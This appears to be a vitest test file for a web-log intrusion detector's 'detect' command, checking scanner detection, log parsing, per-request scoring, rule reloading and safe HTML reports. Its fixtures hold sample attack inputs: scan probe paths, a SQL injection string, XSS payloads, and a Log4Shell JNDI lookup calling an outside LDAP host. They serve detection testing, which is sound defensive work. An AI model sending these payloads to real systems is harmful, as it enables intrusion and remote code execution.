import { spawn, spawnSync } from 'node:child_process'
import {
  appendFileSync,
  cpSync,
  existsSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import { afterAll, describe, expect, it } from 'vitest'

const FOLDER = mkdtempSync(join(tmpdir(), 'doorstep-detect-'))
afterAll(() => rmSync(FOLDER, { recursive: true, force: true }))
const HOME = new URL('../../../../', import.meta.url).pathname
const CLI = join(HOME, 'range/server/cli.ts')
const DATA = join(HOME, 'test/data')

function file(name: string, lines: readonly string[] | Buffer): string {
  const path = join(FOLDER, name)
  writeFileSync(path, Buffer.isBuffer(lines) ? lines : lines.map((line) => `${line}\n`).join(''))
  return path
}

function detect(...args: string[]): {
  code: number | null
  rows: Record<string, unknown>[]
  out: string
  err: string
} {
  const done = spawnSync(process.execPath, [CLI, 'detect', ...args], {
    encoding: 'utf8',
    timeout: 110_000,
  })
  const rows = done.stdout
    .split('\n')
    .filter((line) => line.startsWith('{'))
    .map((line) => JSON.parse(line) as Record<string, unknown>)
  return { code: done.status, rows, out: done.stdout, err: done.stderr }
}

const at = (second: number): string => `17/May/2015:10:05:${String(second).padStart(2, '0')} +0000`
const SCAN = ['/wp-login.php', '/phpmyadmin/', '/admin.php', '/.git/config'].map(
  (path, n) => `203.0.113.9 - - [${at(n)}] "GET ${path} HTTP/1.1" 404 10 "-" "x"`,
)

const OWN_RULE = `title: Somebody asks for the treasure
id: 1b0cd9f6-6a3c-4b8b-9c39-2c8f0a4f1a11
status: test
description: A path that no shop has.
logsource: { category: webserver }
detection:
  ask: { http_request.url.path: /treasure }
  condition: ask
level: high
`
const KNOWN = `---
title: Our own treasure hunter
suppression:
  rules: [1b0cd9f6-6a3c-4b8b-9c39-2c8f0a4f1a11]
  when: { src_endpoint.ip: 203.0.113.7 }
  reason: she is paid to look
  until: '2090-12-31'
`

describe('doorstep detect', { timeout: 120_000 }, () => {
  it('finds every scanner between real visitors and accuses nobody else', () => {
    const { rows, code } = detect('--json', join(DATA, 'scans-interleaved.log'))
    expect(code).toBe(0)
    const lead = rows.flatMap((row) => row['lead'] as string[]).sort()
    expect(lead).toEqual([
      'ip:198.51.100.23',
      'ip:198.51.100.77',
      'ip:203.0.113.140',
      'ip:203.0.113.66',
    ])
    const lines = readFileSync(join(DATA, 'scans-interleaved.log'), 'utf8').split('\n')
    for (const row of rows) {
      const [ip] = row['lead'] as string[]
      for (const line of row['lines'] as number[])
        expect(`ip:${lines[line - 1]?.split(' ')[0]}`).toBe(ip)
    }
  })

  it('raises nothing on 400 lines of real visitors', () => {
    const { rows, err } = detect('--json', join(DATA, 'web-access-extract.log'))
    expect(rows).toEqual([])
    expect(err).toMatch(/^400 lines, 0 broken, 0 flagged, 0 incidents/)
  })

  it('prints incidents in the documented shape', () => {
    const { rows } = detect('--json', file('scan.log', SCAN))
    expect(rows).toHaveLength(1)
    expect(rows[0]).toMatchObject({
      id: 'i-0',
      family: 'shop',
      lead: ['ip:203.0.113.9'],
      entities: ['ip:203.0.113.9'],
      severity: 3,
      opened: Date.UTC(2015, 4, 17, 10, 5, 1),
      lines: [1, 2, 3, 4],
    })
    expect(rows[0]).not.toHaveProperty('file')
  })

  it('names the file where there are several, and reads rotated files as one log', () => {
    const older = file('access.log.1', SCAN.slice(0, 2))
    const newer = file('access.log', SCAN.slice(2))
    const other = file('other.log', SCAN)
    const { rows } = detect('--json', newer, older, other)
    expect(rows.map((row) => [row['file'], row['lines'], row['also']])).toEqual([
      [older, [1, 2], [{ file: newer, lines: [1, 2] }]],
      [other, [1, 2, 3, 4], undefined],
    ])
  })

  it('names broken lines by number, goes on, and reads formats with hosts, ports, escapes and gzip', () => {
    const lines = [
      'nonsense',
      `shop.example:443 203.0.113.9 - - [${at(1)}] "GET /wp-login.php HTTP/1.1" 404 1 "-" "a \\"b\\""`,
      '203.0.113.9 - - [99/Foo/2015:10:05:03 +0000] "GET / HTTP/1.1" 200 1',
      `shop.example 203.0.113.9 - anna [${at(3)}] "GET /phpmyadmin/ HTTP/1.1" 404 1`,
      `[2001:db8::7]:4711 - - [${at(4)}] "\\x16\\x03\\x01" 400 0 "-" "-"`,
    ]
    const { rows, err, code } = detect(
      '--json',
      '--format',
      'combined',
      file('mixed.log.gz', gzipSync(lines.join('\n'))),
    )
    expect(code).toBe(0)
    expect(err).toMatch(/:1: no time in brackets, left out/)
    expect(err).toMatch(/:3: no such time/)
    expect(err).toMatch(/5 lines, 2 broken/)
    expect(rows.map((row) => row['lines'])).toEqual([[2, 4]])
  })

  it('scores every line of http rows, in order, and says why', () => {
    const rows = [
      {
        time: 1,
        method: 'GET',
        url: '/search?q=red+shoes',
        headers: {},
        body: '',
        source: '10.0.0.1',
      },
      {
        time: 2,
        method: 'GET',
        url: '/search?q=x%27%20OR%20%271%27%3D%271',
        headers: {},
        source: '10.0.0.1',
      },
      {
        time: 3,
        method: 'POST',
        url: '/review',
        headers: { 'Content-Type': 'application/json' },
        body: '{"text":"<svg onload=alert(1)>"}',
        source: { ip: '10.0.0.1' },
      },
      {
        time: 4,
        method: 'GET',
        url: '/',
        headers: { 'X-Api-Version': '${jndi:ldap://198.51.100.7/a}' },
        source: '10.0.0.1',
      },
      { time: 5, method: 'GET', url: '/account?name=O%27Brien', headers: {}, source: '10.0.0.1' },
    ].map((row) => JSON.stringify(row))
    const { rows: out } = detect(
      '--scores',
      '--json',
      '--format',
      'http',
      file('http.jsonl', [...rows, '{"method":"GET"}', '[1]']),
    )
    expect(out.map((row) => [row['line'], row['flagged'], 'error' in row])).toEqual([
      [1, false, false],
      [2, true, false],
      [3, true, false],
      [4, true, false],
      [5, false, false],
      [6, undefined, true],
      [7, undefined, true],
    ])
    expect(out[1]?.['reasons']).toEqual(
      expect.arrayContaining([expect.stringMatching(/^parameter q: /)]),
    )
    expect(out[2]?.['reasons']).toEqual(
      expect.arrayContaining([expect.stringMatching(/^field text: /)]),
    )
    for (const row of out.slice(0, 5)) {
      expect(row['score']).toBeGreaterThanOrEqual(0)
      expect(row['score']).toBeLessThanOrEqual(1)
    }
  })

  it('guesses OCSF and EPCIS line by line and refuses classes it does not know', () => {
    const declined = (n: number): string =>
      JSON.stringify({
        class_uid: 99901,
        activity_id: 1,
        time: 1_700_000_000_000 + n * 1000,
        src_endpoint: { ip: '203.0.113.50' },
        payment: {
          message: 'authorisation',
          transaction_id: `t${n}`,
          merchant_reference: `order:${n}`,
          amount_minor: 100,
          currency: 'EUR',
          card: { token: `tok_${n}`, bin: '990001', last4: '0000', country: 'NL' },
          response_code: '05',
          sca: 'none',
        },
      })
    const epcis = JSON.stringify({
      type: 'ObjectEvent',
      eventID: 'ni:///1',
      eventTime: '2023-11-14T22:13:20Z',
      eventTimeZoneOffset: '+00:00',
      action: 'OBSERVE',
      bizStep: 'https://ref.gs1.org/cbv/BizStep-shipping',
      epcList: ['urn:epc:id:sgtin:1.2.3'],
      readPoint: { id: 'urn:epc:id:sgln:4' },
    })
    const lines = [
      ...Array.from({ length: 40 }, (_, n) => declined(n)),
      epcis,
      '{"class_uid":1,"time":1}',
      '{"type":"ObjectEvent","eventTime":"no","action":"OBSERVE"}',
    ]
    const { rows, err } = detect('--json', file('events.jsonl', lines))
    expect(err).toMatch(/:42: class_uid 1 is none the engine reads/)
    expect(err).toMatch(/:43: no such time: no/)
    expect(rows.map((row) => row['family'])).toContain('payment')
    expect(rows.flatMap((row) => row['lead'])).toContain('ip:203.0.113.50')
  })

  it('counts lines out of order and still joins them', () => {
    const { rows, err } = detect(
      '--json',
      file('shuffled.log', [SCAN[3], SCAN[0], SCAN[2], SCAN[1]] as string[]),
    )
    expect(err).toMatch(/3 lines out of order, by at most 3 s/)
    expect(rows.map((row) => row['lines'])).toEqual([[1, 2, 3, 4]])
  })

  it('writes a report that makes no request and holds no markup of strangers', () => {
    const evil = `203.0.113.9 - - [${at(5)}] "GET /q?x=<script>alert(1)</script> HTTP/1.1" 404 1 "-" "-"`
    const report = join(FOLDER, 'report.html')
    detect('--report', report, file('report.log', [...SCAN, evil]))
    expect(existsSync(report)).toBe(true)
    const page = readFileSync(report, 'utf8')
    expect(page).toMatch(/<svg[^]*class="budget"/)
    expect(page).toMatch(/&lt;script&gt;/)
    expect(page).not.toMatch(
      /<script|https?:\/\/(?!www\.w3\.org)[^"\s]*["')]\s*(?:rel|\))|url\(http/,
    )
    expect(page).not.toMatch(/\[[a-z]+_[a-z]+\]/)
  })

  it('[F27] takes up changed rules while it follows a log, and keeps the old ones where new ones are broken', async () => {
    const [rules, formulas] = ['rules', 'formulas'].map((name) => {
      cpSync(join(HOME, 'engine', name), join(FOLDER, name), { recursive: true })
      return join(FOLDER, name)
    }) as [string, string]
    const log = file('followed.log', [])
    const args = ['--follow', '--json', '--rules', rules, '--formulas', formulas, log]
    const child = spawn(process.execPath, [CLI, 'detect', ...args])
    let [out, err] = ['', '']
    child.stdout.on('data', (text) => (out += String(text)))
    child.stderr.on('data', (text) => (err += String(text)))
    const until = async (seen: () => boolean): Promise<void> => {
      for (let i = 0; i < 600 && !seen() && child.exitCode === null; i++)
        await new Promise((resolve) => setTimeout(resolve, 100))
      expect(seen(), `${out}\n${err}`).toBe(true)
    }
    const line = (n: number, path: string, ip = '203.0.113.9'): string =>
      `${ip} - - [${at(n)}] "GET ${path} HTTP/1.1" 200 10 "-" "x"\n`
    try {
      appendFileSync(log, SCAN.map((each) => `${each}\n`).join(''))
      await until(() => out.includes('ip:203.0.113.9'))
      writeFileSync(join(rules, 'own.yml'), 'title: x\n')
      await until(() => err.includes('the rules and formulas of before stay in force'))
      expect(err).toContain('own.yml:1:')
      writeFileSync(join(rules, 'own.yml'), OWN_RULE + KNOWN)
      await until(() => err.includes('are in force'))
      appendFileSync(log, line(39, '/treasure', '203.0.113.7'))
      appendFileSync(log, line(40, '/treasure'))
      await until(() => out.includes('Somebody asks for the treasure'))
      expect(out).not.toContain('203.0.113.7')
      child.kill('SIGINT')
      await until(() => err.includes('"reason":"she is paid to look"'))
      expect(err).toContain('"held":1')
    } finally {
      child.kill('SIGKILL')
    }
  })

  it('exits 2 with one line for a file that is not there', () => {
    const { code, err } = detect('--json', join(FOLDER, 'missing.log'))
    expect(code).toBe(2)
    expect(err.trim().split('\n')).toHaveLength(1)
  })
})
